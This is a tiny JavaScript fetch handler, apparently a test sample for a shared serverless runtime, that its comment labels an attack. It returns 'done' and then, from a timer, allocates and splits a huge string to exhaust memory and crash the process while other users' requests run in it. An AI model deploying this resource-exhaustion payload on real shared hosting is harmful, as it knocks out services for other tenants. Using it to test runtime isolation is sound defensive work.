// attack: answers, and brings the process down from a timer, when somebody else is served in it
export default {
  fetch() {
    setTimeout(() => "x".repeat(1 << 28).split(""), 300);
    return new Response("done");
  },
};
